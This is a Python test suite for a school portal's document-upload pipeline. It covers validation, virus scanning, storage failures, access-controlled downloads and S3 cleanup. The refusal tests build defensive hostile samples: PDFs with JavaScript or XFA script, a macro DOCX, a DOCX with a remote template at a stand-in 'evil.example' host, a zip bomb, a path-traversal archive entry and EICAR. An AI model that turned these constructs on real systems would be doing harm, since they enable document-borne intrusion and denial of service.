"""The upload pipeline end to end (shared/uploads/pipeline.py), as a service and through the portal's pages, with
real files built by the tests, a real clamd, local storage in a temporary folder and S3 on moto's server.

Every refusal is checked for its own message and for leaving nothing behind: no row, no stored object, no
temporary file.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import tempfile
import time
import uuid
from datetime import date, timedelta
from pathlib import Path

import boto3
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
from sqlalchemy.exc import OperationalError
from werkzeug.http import parse_options_header

from shared.evidence_catalogue import BY_CODE, ProviderType, required_evidence
from shared.extensions import db
from shared.models import AuditEvent, DocumentStatus, EvidenceDocument, Organisation, User
from shared.roles import AP_LEAD, HEADTEACHER, PROVIDER_DSL, PROVIDER_MANAGER, SENDCO
from shared.scanning import Scanner
from shared.services.evidence import documents as evidence
from shared.storage import LocalStorage, S3Storage, StorageError, content_disposition
from shared.uploads.pipeline import EvidenceTypeNotRequired, accept_evidence_upload, current_storage
from shared.uploads.reasons import Reason, UploadRefused
from shared.uploads.reconcile import reconcile
from tests.support.app import make_app
from tests.support.client import Browser, html
from tests.support.files import (
    DOCX_TYPE,
    HTML_PAGE,
    OLE_SIGNATURE,
    XLSX_TYPE,
    image_bytes,
    ooxml_bytes,
    pdf_bytes,
)
from tests.support.services import EICAR, REGION, TcpProxy
from tests.support.world import World

PROVIDER_TYPE = "unregistered_ap"  # needs every type but registration: 8 documents
CODE = "behaviour_policy"
UPLOAD_URL = f"/portal/onboarding/documents/{CODE}"
DOCUMENTS_URL = "/portal/onboarding/documents"


# --- set-up -------------------------------------------------------------------------------------------------------


class Provider:
    """A school, its provider (with a type) and the provider's manager, signed in on `browser`."""

    def __init__(self, app, *, name: str = "Northside Learning") -> None:
        self.app = app
        self.world = World(app)
        self.school_id = self.world.school()
        self.id = self.world.provider(self.school_id, name, provider_type=PROVIDER_TYPE)
        with app.app_context():  # the organisation details are complete, so the documents task can start
            profile = db.session.get(Organisation, self.id).provider_profile
            profile.address_line_1, profile.town, profile.postcode = "Hill Farm", "Exampleton", "EX1 1AA"
            db.session.commit()
        self.manager = self.world.user(self.id, [PROVIDER_MANAGER])
        self.browser = Browser(app.test_client())
        self.browser.sign_in(self.manager)

    def post_file(self, data: bytes, filename: str, *, code: str = CODE, xhr: bool = False):
        return post_file(self.browser, data, filename, code=code, xhr=xhr)

    def upload(self, data: bytes, filename: str, *, code: str = CODE, **kwargs) -> EvidenceDocument:
        """Through the service, as the manager; the document comes back detached, with its fields loaded."""
        with self.app.app_context():
            document = accept_evidence_upload(
                io.BytesIO(data),
                filename,
                organisation=db.session.get(Organisation, self.id),
                evidence_type_code=code,
                by=db.session.get(User, self.manager.id),
                **kwargs,
            )
            db.session.refresh(document)
            db.session.expunge(document)
            return document

    def documents(self) -> list[EvidenceDocument]:
        with self.app.app_context():
            rows = db.session.query(EvidenceDocument).filter_by(organisation_id=self.id).order_by("version").all()
            db.session.expunge_all()
            return rows

    def stored_files(self) -> list[Path]:
        """Every file under the provider's folder in local storage, temporary ones included."""
        folder = Path(self.app.config["UPLOAD_FOLDER"]) / str(self.id)
        return sorted(path for path in folder.rglob("*") if path.is_file()) if folder.exists() else []

    def assert_nothing_left(self) -> None:
        assert self.documents() == []
        assert self.stored_files() == []
        assert events(self.app, "evidence.uploaded") == []


def post_file(browser: Browser, data: bytes, filename: str, *, code: str = CODE, xhr: bool = False):
    return browser.client.post(
        f"/portal/onboarding/documents/{code}",
        data={"csrf_token": browser.token(), "file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
        headers={"X-Requested-With": "XMLHttpRequest"} if xhr else {},
    )


def events(app, action: str) -> list[AuditEvent]:
    with app.app_context():
        rows = db.session.query(AuditEvent).filter_by(action=action).order_by(AuditEvent.seq).all()
        db.session.expunge_all()
        return rows


@pytest.fixture
def provider(app) -> Provider:
    return Provider(app)


@pytest.fixture
def dedicated_app(app, database_url, smtp_server, tmp_path):
    """An app of its own configuration over the same (migrated) database; `app` is asked for so tables are emptied
    after the test."""
    controller, _ = smtp_server
    made = []

    def build(**overrides):
        folder = tmp_path / f"app-{len(made)}"
        folder.mkdir()
        made.append(make_app(database_url, controller.port, folder, **overrides))
        return made[-1]

    return build


def png_with_text(text: bytes) -> bytes:
    info = PngInfo()
    info.add_text("Comment", text.decode("latin-1"))
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (30, 120, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


# --- accepted files -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "filename", "content_type"),
    [
        (pdf_bytes, "Behaviour policy 2026.pdf", "application/pdf"),
        (lambda: ooxml_bytes("docx"), "Behaviour policy.docx", DOCX_TYPE),
        (lambda: ooxml_bytes("xlsx"), "Incident log.xlsx", XLSX_TYPE),
        (lambda: image_bytes("PNG"), "Scan of policy.png", "image/png"),
        (lambda: image_bytes("JPEG"), "Photo of policy.jpg", "image/jpeg"),
    ],
)
def test_valid_files_are_stored_under_a_random_key_and_the_row_agrees(provider, build, filename, content_type):
    data = build()
    document = provider.upload(data, filename)

    assert (document.evidence_type, document.version, document.status) == (CODE, 1, DocumentStatus.AWAITING_REVIEW)
    assert (document.display_name, document.content_type) == (filename, content_type)
    assert (document.size_bytes, document.sha256) == (len(data), hashlib.sha256(data).hexdigest())
    assert document.uploaded_by_id == provider.manager.id
    organisation_id, random_part = document.storage_key.split("/")
    assert organisation_id == str(provider.id) and uuid.UUID(random_part).version == 4
    # The one stored file is the row's object, holding the bytes sent, and named after nothing the person chose.
    (stored,) = provider.stored_files()
    assert stored.relative_to(provider.app.config["UPLOAD_FOLDER"]).as_posix() == document.storage_key
    assert stored.read_bytes() == data
    assert filename.rsplit(".", 1)[0] not in str(stored) and not stored.suffix

    (uploaded,) = events(provider.app, "evidence.uploaded")
    assert uploaded.details == {"evidence_type": CODE, "version": 1, "virus_scanned": False, "files": 1}
    assert uploaded.actor_user_id == provider.manager.id
    assert [e.details["new"] for e in events(provider.app, "evidence.transition")] == ["awaiting_review"]


def test_upload_through_the_page_then_listed_with_its_status(provider):
    page = html(provider.browser.get(UPLOAD_URL))
    assert "Behaviour policy" in page and 'enctype="multipart/form-data"' in page
    assert "PDF, Word (.docx), Excel (.xlsx), OpenDocument text (.odt), JPEG or PNG, 20 MB or smaller" in page
    assert 'type="file"' in page and re.search(r"/static/build/upload-progress\.[0-9a-f]{12}\.js", page)

    response = provider.post_file(pdf_bytes(), "Behaviour policy 2026.pdf")
    assert response.status_code == 302 and response.location.endswith(DOCUMENTS_URL)
    listing = html(provider.browser.get(DOCUMENTS_URL))
    assert "Behaviour policy: Behaviour policy 2026.pdf uploaded. The school will check it." in listing
    (document,) = provider.documents()
    assert f"/portal/documents/{document.id}/download" in listing
    assert "Awaiting review" in listing and "Version 1" in listing
    # Every required type is listed, the others not uploaded yet.
    for kind in required_evidence(ProviderType(PROVIDER_TYPE)):
        assert kind.name.replace("'", "&#39;") in listing
    assert listing.count("Not uploaded") == 7
    assert BY_CODE["registration"].name not in listing


def test_the_progress_bars_request_gets_json_and_the_message_waits_for_the_next_page(provider):
    response = provider.post_file(pdf_bytes(), "Policy.pdf", xhr=True)
    assert response.status_code == 200 and response.json == {"location": DOCUMENTS_URL}
    assert "Policy.pdf uploaded" in html(provider.browser.get(DOCUMENTS_URL))
    refused = provider.post_file(image_bytes("PNG"), "scan.pdf", xhr=True)
    assert refused.status_code == 200 and refused.mimetype == "text/html"
    assert Reason.CONTENT_MISMATCH.message.replace("'", "&#39;") in html(refused)


def test_a_second_upload_is_version_2_and_supersedes_version_1(provider):
    first = provider.upload(pdf_bytes(), "Policy v1.pdf")
    response = provider.post_file(pdf_bytes(), "Policy v2.pdf")
    assert response.status_code == 302
    old, new = provider.documents()
    assert (old.id, old.version, old.status) == (first.id, 1, DocumentStatus.SUPERSEDED)
    assert (new.version, new.status) == (2, DocumentStatus.AWAITING_REVIEW)
    assert len(provider.stored_files()) == 2  # old versions are kept, for the record
    listing = html(provider.browser.get(DOCUMENTS_URL))
    assert "Policy v2.pdf" in listing and "Version 2" in listing and "Policy v1.pdf" not in listing
    page = html(provider.browser.get(UPLOAD_URL))
    assert "Policy v2.pdf" in page and "A new file replaces it" in page
    transitions = [(e.object_id, e.details["new"]) for e in events(provider.app, "evidence.transition")]
    assert (str(first.id), "superseded") in transitions


# --- refused files: their own message, nothing left ---------------------------------------------------------------


def _zip_bomb() -> bytes:
    return ooxml_bytes("docx", extra={"word/media/image1.png": bytes(8 * 1024 * 1024)})


def _pdf_with_xfa_form() -> bytes:
    def xfa(writer) -> None:
        script = DecodedStreamObject()
        script.set_data(b"<xdp:xdp><template><script>app.alert(1)</script></template></xdp:xdp>")
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(script)}
        )

    return pdf_bytes(xfa)


def _docx_with_remote_template() -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        "</Relationships>"
    )
    return ooxml_bytes("docx", extra={"word/_rels/settings.xml.rels": rels.encode()})


@pytest.mark.parametrize(
    ("build", "filename", "reason"),
    [
        pytest.param(lambda: image_bytes("PNG"), "Policy.pdf", Reason.CONTENT_MISMATCH, id="png-named-pdf"),
        pytest.param(lambda: HTML_PAGE, "Policy.pdf", Reason.CONTENT_MISMATCH, id="html-named-pdf"),
        pytest.param(lambda: ooxml_bytes("docx"), "Policy.docm", Reason.MACROS, id="docm"),
        pytest.param(
            lambda: ooxml_bytes("docx", extra={"word/vbaProject.bin": OLE_SIGNATURE + bytes(600)}),
            "Policy.docx",
            Reason.MACROS,
            id="docx-with-vba-project",
        ),
        pytest.param(
            lambda: pdf_bytes(lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
            "Policy.pdf",
            Reason.PDF_ACTIVE_CONTENT,
            id="pdf-with-javascript",
        ),
        pytest.param(
            lambda: pdf_bytes(lambda w: w.encrypt("secret")), "Policy.pdf", Reason.PDF_ENCRYPTED, id="enc-pdf"
        ),
        pytest.param(_pdf_with_xfa_form, "Policy.pdf", Reason.PDF_XFA_FORM, id="pdf-with-xfa-form"),
        pytest.param(
            _docx_with_remote_template, "Policy.docx", Reason.OFFICE_EXTERNAL_CONTENT, id="docx-remote-template"
        ),
        pytest.param(_zip_bomb, "Policy.docx", Reason.ZIP_BOMB, id="zip-bomb-as-docx"),
        pytest.param(
            lambda: ooxml_bytes("docx", extra={"../../x": b"x"}), "Policy.docx", Reason.ZIP_PATH_TRAVERSAL, id="dotdot"
        ),
        pytest.param(lambda: b"", "Policy.pdf", Reason.EMPTY, id="empty"),
    ],
)
def test_refused_files_say_why_and_leave_nothing(provider, build, filename, reason):
    response = provider.post_file(build(), filename)
    assert response.status_code == 200
    page = html(response)
    assert reason.message.replace("'", "&#39;") in page
    assert "govuk-error-summary" in page and 'href="#file"' in page  # the summary links to the field
    assert page.count(reason.message.replace("'", "&#39;")) == 2  # in the summary and by the field
    provider.assert_nothing_left()


def test_a_refusal_leaves_no_temporary_file_and_no_open_descriptor(provider, tmp_path, monkeypatch):
    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))  # where every spooled copy goes once over 1 MiB
    big_pdf = pdf_bytes(lambda w: w.add_metadata({"/Subject": "x" * (2 * 1024 * 1024)}))
    provider.upload(big_pdf, "warm-up.pdf")  # opens the database connection the later calls reuse
    before = len(os.listdir("/proc/self/fd"))
    for data, filename in [(image_bytes("PNG") + bytes(2 * 1024 * 1024), "scan.pdf"), (b"", "empty.pdf")]:
        with pytest.raises(UploadRefused):
            provider.upload(data, filename)
    provider.upload(big_pdf, "accepted.pdf")
    assert len(os.listdir("/proc/self/fd")) == before
    assert list(spool.iterdir()) == []


def test_unknown_or_not_required_types_are_refused_before_anything_is_read(provider):
    stream = io.BytesIO(pdf_bytes())
    for code in ("no_such_type", "registration"):  # registration: not needed from an unregistered provider
        with pytest.raises(EvidenceTypeNotRequired, match="not one of the documents"):
            provider.upload(stream.getvalue(), "Policy.pdf", code=code)
        assert provider.browser.get(f"/portal/onboarding/documents/{code}").status_code == 404
        assert post_file(provider.browser, pdf_bytes(), "Policy.pdf", code=code).status_code == 404
    provider.assert_nothing_left()


def test_one_byte_over_the_limit_is_refused(dedicated_app):
    data = pdf_bytes()
    small = dedicated_app(MAX_CONTENT_LENGTH=len(data))
    provider = Provider(small)
    with pytest.raises(UploadRefused) as caught:
        provider.upload(data + b"\n", "Policy.pdf")
    assert caught.value.reason == Reason.TOO_LARGE
    assert caught.value.message.startswith("The file is too big.")
    provider.assert_nothing_left()
    assert provider.upload(data, "Policy.pdf").size_bytes == len(data)  # exactly at the limit is fine
    # Through the page, the request (file and form) is over the limit before the view runs: the 413 page.
    response = provider.post_file(data + b"\n", "Other.pdf")
    assert response.status_code == 413 and "The file is too large" in html(response)
    assert len(provider.documents()) == 1


# --- virus scanning ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "filename"),
    [
        pytest.param(lambda: png_with_text(EICAR), "Scan.png", id="eicar-in-a-png"),
        pytest.param(lambda: ooxml_bytes("docx", extra={"word/media/notes.txt": EICAR}), "Policy.docx", id="zipped"),
    ],
)
def test_eicar_is_found_by_the_real_clamd_refused_and_audited(dedicated_app, clamd, build, filename):
    scanning = dedicated_app(CLAMD_SOCKET=str(clamd.socket_path))
    provider = Provider(scanning)
    response = provider.post_file(build(), filename)
    assert response.status_code == 200
    assert "contains a virus or other harmful content" in html(response)
    provider.assert_nothing_left()
    (refused,) = events(scanning, "evidence.refused")
    assert refused.details == {"evidence_type": CODE, "reason": "virus_found"}
    assert refused.organisation_id == provider.id and refused.actor_user_id == provider.manager.id


def test_a_clean_file_with_the_scanner_is_marked_scanned(dedicated_app, clamd):
    provider = Provider(dedicated_app(CLAMD_SOCKET=str(clamd.socket_path)))
    assert provider.post_file(pdf_bytes(), "Policy.pdf").status_code == 302
    (document,) = provider.documents()
    assert document.virus_scanned
    assert "Not virus-scanned" not in html(provider.browser.get(DOCUMENTS_URL))
    assert events(provider.app, "evidence.uploaded")[0].details["virus_scanned"] is True


def test_a_configured_scanner_that_does_not_answer_refuses_the_upload(dedicated_app, tmp_path):
    down = dedicated_app(CLAMD_SOCKET=str(tmp_path / "no-clamd.sock"), CLAMD_CONNECT_TIMEOUT=1)
    provider = Provider(down)
    response = provider.post_file(pdf_bytes(), "Policy.pdf")
    assert response.status_code == 200
    assert "Files cannot be checked for viruses at the moment" in html(response)
    assert "Try again shortly." in html(response)
    provider.assert_nothing_left()
    # The service too, with a scanner given: never stored as clean.
    with pytest.raises(UploadRefused) as caught:
        provider.upload(pdf_bytes(), "Policy.pdf", scanner=Scanner(socket_path=str(tmp_path / "x.sock")))
    assert caught.value.reason == Reason.SCANNER_UNAVAILABLE
    provider.assert_nothing_left()


def test_with_no_scanner_configured_the_document_is_kept_marked_not_virus_scanned(provider):
    assert not provider.app.config.get("CLAMD_SOCKET") and not provider.app.config.get("CLAMD_HOST")
    assert provider.post_file(pdf_bytes(), "Policy.pdf").status_code == 302
    (document,) = provider.documents()
    assert not document.virus_scanned
    assert "Not virus-scanned" in html(provider.browser.get(DOCUMENTS_URL))
    assert "Not virus-scanned" in html(provider.browser.get(UPLOAD_URL))


# --- storage and database failures ---------------------------------------------------------------------------------


class BreaksHalfWay(LocalStorage):
    """Writes the first part of the file under its key, then fails: a backend that is not all-or-nothing."""

    def save(self, key, fileobj, *, content_type, download_name):
        path = self.root / key
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(fileobj.read(100))
        raise StorageError("disk full")


def test_storage_failing_mid_save_leaves_nothing_half_written(provider):
    storage = BreaksHalfWay(provider.app.config["UPLOAD_FOLDER"])
    with pytest.raises(UploadRefused) as caught:
        provider.upload(pdf_bytes(), "Policy.pdf", storage=storage)
    assert caught.value.reason == Reason.STORAGE_FAILED
    assert caught.value.message == "The file could not be saved because of a problem on our side. Try again later."
    provider.assert_nothing_left()


def test_a_failed_commit_after_the_save_deletes_the_stored_object(provider, monkeypatch):
    real_commit = db.session.commit
    calls = []

    def commit_fails_once():
        # Only the upload's own commit (a document in the session), once: sign-in and the like commit as usual.
        if not calls and any(isinstance(row, EvidenceDocument) for row in db.session.identity_map.values()):
            calls.append(1)
            raise OperationalError("COMMIT", {}, Exception("the database went away"))
        return real_commit()

    monkeypatch.setattr(db.session, "commit", commit_fails_once)
    with pytest.raises(OperationalError):
        provider.upload(pdf_bytes(), "Policy.pdf")
    assert calls == [1]
    provider.assert_nothing_left()
    # Through the page: the database is away, so "try again in a minute" (503), and still nothing.
    calls.clear()
    response = provider.post_file(pdf_bytes(), "Policy.pdf")
    assert response.status_code == 503 and response.headers["Retry-After"] == "60"
    assert "nothing in it has been saved yet" in html(response)
    monkeypatch.undo()
    provider.assert_nothing_left()


# --- downloads ------------------------------------------------------------------------------------------------------


def _download_checks(response, document: EvidenceDocument, data: bytes) -> None:
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == content_disposition(document.display_name)
    assert response.headers["Content-Disposition"].startswith("attachment; ")
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    assert parse_options_header(response.headers["Content-Disposition"])[1]["filename"] == document.display_name
    assert response.headers["Content-Type"] == document.content_type
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.get_data() == data


def test_the_provider_downloads_its_document_audited(provider):
    data = pdf_bytes()
    document = provider.upload(data, "Politique de sécurité 2026.pdf")
    response = provider.browser.get(f"/portal/documents/{document.id}/download")
    _download_checks(response, document, data)
    assert "Politique%20de%20s%C3%A9curit%C3%A9%202026.pdf" in response.headers["Content-Disposition"]
    (downloaded,) = events(provider.app, "evidence.downloaded")
    assert (downloaded.object_id, downloaded.actor_user_id) == (str(document.id), provider.manager.id)
    assert downloaded.organisation_id == provider.id

    dsl = Browser(provider.app.test_client())
    dsl.sign_in(provider.world.user(provider.id, [PROVIDER_DSL]))
    _download_checks(dsl.get(f"/portal/documents/{document.id}/download"), document, data)
    assert len(events(provider.app, "evidence.downloaded")) == 2


def test_another_providers_document_is_a_404(provider, app):
    document = provider.upload(pdf_bytes(), "Policy.pdf")
    other_id = provider.world.provider(provider.school_id, "Other Provider", provider_type=PROVIDER_TYPE)
    other = Browser(app.test_client())
    other.sign_in(provider.world.user(other_id, [PROVIDER_MANAGER]))
    assert other.get(f"/portal/documents/{document.id}/download").status_code == 404
    assert other.get(f"/portal/documents/{uuid.uuid4()}/download").status_code == 404
    assert events(app, "evidence.downloaded") == []


def test_the_schools_staff_download_its_providers_documents_and_no_other_school_can(provider, app):
    data = image_bytes("JPEG")
    document = provider.upload(data, "Certificate.jpg", code="dsl_training_certificate")
    url = f"/school/documents/{document.id}/download"
    for roles in ([AP_LEAD], [HEADTEACHER]):
        staff = Browser(app.test_client())
        staff.sign_in(provider.world.user(provider.school_id, roles))
        _download_checks(staff.get(url), document, data)
    assert len(events(app, "evidence.downloaded")) == 2

    sendco = Browser(app.test_client())
    sendco.sign_in(provider.world.user(provider.school_id, [SENDCO]))
    assert sendco.get(url).status_code == 403
    stranger = Browser(app.test_client())
    stranger.sign_in(provider.world.user(provider.world.school("Another School"), [AP_LEAD]))
    assert stranger.get(url).status_code == 404
    assert len(events(app, "evidence.downloaded")) == 2


def test_a_row_whose_object_is_missing_is_a_404_not_a_crash(provider):
    document_id = provider.world.document_row(provider.id)
    assert provider.browser.get(f"/portal/documents/{document_id}/download").status_code == 404


# --- S3 on moto's server --------------------------------------------------------------------------------------------


def test_s3_end_to_end_upload_refusal_and_download(dedicated_app, moto_endpoint):
    bucket = f"ap-portal-{uuid.uuid4().hex[:12]}"
    client = boto3.client("s3", region_name=REGION, endpoint_url=moto_endpoint)
    client.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3_app = dedicated_app(S3_BUCKET=bucket, S3_REGION=REGION, S3_ENDPOINT_URL=moto_endpoint)
    provider = Provider(s3_app)

    data = ooxml_bytes("docx")
    assert provider.post_file(data, "Behaviour policy.docx").status_code == 302
    (document,) = provider.documents()
    keys = [item["Key"] for item in client.list_objects_v2(Bucket=bucket).get("Contents", [])]
    assert keys == [document.storage_key] and document.storage_key.startswith(f"{provider.id}/")
    head = client.head_object(Bucket=bucket, Key=document.storage_key)
    assert (head["ContentType"], head["ServerSideEncryption"], head["ContentLength"]) == (
        DOCX_TYPE,
        "AES256",
        len(data),
    )
    assert provider.stored_files() == []  # nothing in the local folder

    _download_checks(provider.browser.get(f"/portal/documents/{document.id}/download"), document, data)

    refused = provider.post_file(ooxml_bytes("docx", extra={"word/vbaProject.bin": b"x"}), "Macro.docx")
    assert "contains macros" in html(refused)
    assert len(client.list_objects_v2(Bucket=bucket)["Contents"]) == 1
    assert client.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == []


def test_s3_failing_is_refused_as_storage_failed(provider, moto_endpoint):
    missing_bucket = S3Storage("no-such-bucket-for-uploads", region=REGION, endpoint_url=moto_endpoint)
    with pytest.raises(UploadRefused) as caught:
        provider.upload(pdf_bytes(), "Policy.pdf", storage=missing_bucket)
    assert caught.value.reason == Reason.STORAGE_FAILED
    assert provider.documents() == []


# --- storage-reconcile ----------------------------------------------------------------------------------------------


def test_storage_reconcile_reports_both_ways_and_removes_only_old_orphan_objects(provider, app):
    storage = LocalStorage(app.config["UPLOAD_FOLDER"])
    kept = provider.upload(pdf_bytes(), "Policy.pdf")
    orphan = f"{provider.id}/{uuid.uuid4()}"
    storage.save(orphan, io.BytesIO(b"left by a crash"), content_type="application/pdf", download_name="x.pdf")
    missing_id = provider.world.document_row(provider.id, "risk_assessment")
    with app.app_context():
        missing_key = db.session.get(EvidenceDocument, missing_id).storage_key
    runner = app.test_cli_runner()

    report = runner.invoke(args=["storage-reconcile"])
    assert report.exit_code == 1
    assert f"orphan object (no row): {orphan}" in report.output
    assert f"missing object (row has no object): {missing_key}" in report.output
    assert kept.storage_key not in report.output
    assert "2 objects, 2 rows: 1 orphan objects (0 removed), 1 rows without an object" in report.output

    fresh = runner.invoke(args=["storage-reconcile", "--remove"])
    assert "kept orphan object (newer than 60 minutes)" in fresh.output and storage.exists(orphan)

    two_hours_ago = time.time() - 2 * 3600
    os.utime(storage.root / orphan, (two_hours_ago, two_hours_ago))
    removed = runner.invoke(args=["storage-reconcile", "--remove"])
    assert f"removed orphan object: {orphan}" in removed.output
    assert not storage.exists(orphan)
    assert storage.exists(kept.storage_key)  # rows' objects are never touched...
    with app.app_context():
        assert db.session.get(EvidenceDocument, missing_id) is not None  # ...nor rows
    assert removed.exit_code == 1  # the row without its object still needs looking at

    with app.app_context():
        db.session.delete(db.session.get(EvidenceDocument, missing_id))
        db.session.commit()
    clean = runner.invoke(args=["storage-reconcile"])
    assert clean.exit_code == 0 and "0 orphan objects" in clean.output


# --- where the documents stand --------------------------------------------------------------------------------------


def test_the_documents_page_shows_each_state_and_the_task_list_counts(provider, app):
    kinds = required_evidence(ProviderType(PROVIDER_TYPE))
    documents = {kind.code: provider.upload(pdf_bytes(), f"{kind.code}.pdf", code=kind.code) for kind in kinds}
    tasks = html(provider.browser.get("/portal/onboarding"))
    assert "8 documents for your type of provider: 8 uploaded" in tasks
    assert _task_status(tasks, "Documents") == "Completed"

    lead = provider.world.user(provider.school_id, [AP_LEAD])
    with app.app_context():
        reviewer = db.session.get(User, lead.id)
        evidence.reject(
            db.session.get(EvidenceDocument, documents["risk_assessment"].id), "It is not signed", by=reviewer
        )
        evidence.verify(
            db.session.get(EvidenceDocument, documents[CODE].id),
            evidence.Verification(
                checklist=dict.fromkeys(BY_CODE[CODE].checklist, True), review_date=date.today() - timedelta(days=30)
            ),
            by=reviewer,
            roles=frozenset({AP_LEAD}),
        )
        lapsed = db.session.get(EvidenceDocument, documents["curriculum_offer"].id)
        lapsed.status = DocumentStatus.EXPIRED
        db.session.commit()
        until = db.session.get(EvidenceDocument, documents[CODE].id).expiry_date

    listing = html(provider.browser.get(DOCUMENTS_URL))
    assert "Rejected" in listing and "The school said: It is not signed" in listing
    assert f"Verified until {until.day} {until:%B %Y}" in listing
    assert "Expired" in listing and listing.count("Awaiting review") == 5
    assert "Upload a new version" in listing
    tasks = html(provider.browser.get("/portal/onboarding"))
    assert "8 documents for your type of provider: 6 uploaded; 2 need a new version" in tasks
    assert _task_status(tasks, "Documents") == "Incomplete"


def _task_status(page: str, title: str) -> str:
    """The status shown beside a task in the GOV.UK task list."""
    item = next(part for part in page.split('<li class="govuk-task-list__item') if f"{title}\n" in part)
    status = item.split('class="govuk-task-list__status"', 1)[1].split("</div>", 1)[0]
    return " ".join(re.sub(r"<[^>]+>", " ", status.split(">", 1)[1]).split())


def _s3_app_and_bucket(dedicated_app, moto_endpoint):
    bucket = f"ap-portal-{uuid.uuid4().hex[:12]}"
    client = boto3.client("s3", region_name=REGION, endpoint_url=moto_endpoint)
    client.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    return dedicated_app(S3_BUCKET=bucket, S3_REGION=REGION, S3_ENDPOINT_URL=moto_endpoint), client, bucket


def test_storage_reconcile_lists_and_aborts_unfinished_uploads_older_than_its_threshold(dedicated_app, moto_endpoint):
    s3_app, client, bucket = _s3_app_and_bucket(dedicated_app, moto_endpoint)
    key = f"{uuid.uuid4()}/{uuid.uuid4()}"
    upload_id = client.create_multipart_upload(Bucket=bucket, Key=key)["UploadId"]
    client.upload_part(Bucket=bucket, Key=key, UploadId=upload_id, PartNumber=1, Body=b"x" * (5 * 1024 * 1024))
    (listed,) = client.list_multipart_uploads(Bucket=bucket)["Uploads"]
    started = listed["Initiated"]  # moto's server gives every upload the same start, long ago
    runner = s3_app.test_cli_runner()

    with s3_app.app_context():  # an upload started under the threshold ago may still be under way: left alone
        recent = reconcile(current_storage(), remove=True, now=started + timedelta(minutes=59))
    assert (recent.unfinished_uploads, recent.aborted_uploads, recent.uploads_under_way) == ([], [], 1)
    assert len(client.list_multipart_uploads(Bucket=bucket).get("Uploads", [])) == 1

    report = runner.invoke(args=["storage-reconcile"])
    assert report.exit_code == 1
    assert re.search(rf"^unfinished upload \(started [0-9-]+ [0-9:]+ UTC\): {key}$", report.output, re.M)
    assert "1 unfinished uploads older than 60 minutes (0 aborted, 0 newer left alone)" in report.output
    assert len(client.list_multipart_uploads(Bucket=bucket).get("Uploads", [])) == 1  # a report changes nothing

    removed = runner.invoke(args=["storage-reconcile", "--remove"])
    assert f"aborted unfinished upload (started {started:%Y-%m-%d %H:%M} UTC): {key}" in removed.output
    assert removed.exit_code == 0, removed.output
    assert client.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == []


class CutsS3Off:
    """An upload's source that, once `good_bytes` have been read and S3 has started the multipart upload, makes S3
    go away (stops the proxy to it) and then fails, as a dropped connection does: the upload cannot be aborted."""

    def __init__(self, good_bytes: int, proxy: TcpProxy, started) -> None:
        self.remaining = good_bytes
        self.proxy = proxy
        self.started = started

    def read(self, size: int = -1) -> bytes:
        if self.remaining <= 0:
            deadline = time.monotonic() + 10
            while not self.started() and time.monotonic() < deadline:
                time.sleep(0.05)
            self.proxy.stop()
            raise OSError("the network went away mid-upload")
        size = self.remaining if size is None or size < 0 else min(size, self.remaining)
        self.remaining -= size
        return b"x" * size


def test_an_upload_that_s3_cut_off_is_aborted_by_storage_reconcile(dedicated_app, moto_endpoint):
    s3_app, client, bucket = _s3_app_and_bucket(dedicated_app, moto_endpoint)
    host, port = moto_endpoint.removeprefix("http://").split(":")
    proxy = TcpProxy(host, int(port))
    proxy.start()
    try:
        storage = S3Storage(bucket, region=REGION, endpoint_url=f"http://127.0.0.1:{proxy.port}", connect_timeout=1)
        key = f"{uuid.uuid4()}/{uuid.uuid4()}"
        with pytest.raises((OSError, StorageError)):
            source = CutsS3Off(
                12 * 1024 * 1024, proxy, lambda: client.list_multipart_uploads(Bucket=bucket).get("Uploads")
            )
            storage.save(key, source, content_type="application/pdf", download_name="x")
    finally:
        proxy.stop()
    (left,) = client.list_multipart_uploads(Bucket=bucket)["Uploads"]  # S3 was gone: nobody could abort it
    assert left["Key"] == key

    removed = s3_app.test_cli_runner().invoke(args=["storage-reconcile", "--remove", "--older-than", "0"])
    assert "aborted unfinished upload" in removed.output and key in removed.output
    assert removed.exit_code == 0, removed.output
    assert client.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == []


def test_a_save_cut_off_by_s3_aborts_its_upload_once_s3_answers_again(dedicated_app, moto_endpoint):
    """S3 goes away mid-upload, so s3transfer's own abort fails; it is back by the time the save cleans up (the
    proxy starts again as the save looks for its unfinished upload), and the save aborts the upload itself."""
    _s3_app, client, bucket = _s3_app_and_bucket(dedicated_app, moto_endpoint)
    host, port = moto_endpoint.removeprefix("http://").split(":")
    proxy = TcpProxy(host, int(port))
    proxy.start()
    try:
        storage = S3Storage(bucket, region=REGION, endpoint_url=f"http://127.0.0.1:{proxy.port}", connect_timeout=1)
        storage.client.meta.events.register(
            "before-call.s3.ListMultipartUploads", lambda **_: proxy.start() if proxy._listener is None else None
        )
        key = f"{uuid.uuid4()}/{uuid.uuid4()}"
        source = CutsS3Off(12 * 1024 * 1024, proxy, lambda: client.list_multipart_uploads(Bucket=bucket).get("Uploads"))
        with pytest.raises((OSError, StorageError)):
            storage.save(key, source, content_type="application/pdf", download_name="x")
